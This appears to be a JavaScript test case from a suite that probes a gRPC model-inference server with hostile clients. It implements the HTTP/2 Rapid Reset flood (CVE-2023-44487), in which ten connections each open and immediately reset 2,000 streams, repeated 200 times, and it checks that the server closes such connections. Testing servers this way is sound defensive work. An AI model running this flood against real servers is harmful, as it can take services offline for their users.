import { defineAttack, MODEL_INFER } from '../../hostile-client.js';
import { END_HEADERS, FRAME, frame, PREFACE, requestHeaders, settings, uint32 } from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'ten connections open streams and reset them at once, 2,000 at a time (CVE-2023-44487)',
  bound: 'a connection that resets too often is closed',
  port: 'grpc',
  async run(client) {
    const headers = requestHeaders(MODEL_INFER);
    await client.repeat(200, () => {
      for (let count = 0; count < 10; count++) {
        const frames = Array.from({ length: 2000 }, (_, index) => [
          frame(FRAME.headers, END_HEADERS, 2 * index + 1, headers),
          frame(FRAME.reset, 0, 2 * index + 1, uint32(8)),
        ]);
        const socket = client.socket();
        socket.write(Buffer.concat([PREFACE, settings(), ...frames.flat()]));
        setTimeout(() => socket.destroy(), 190);
      }
    });
  },
});
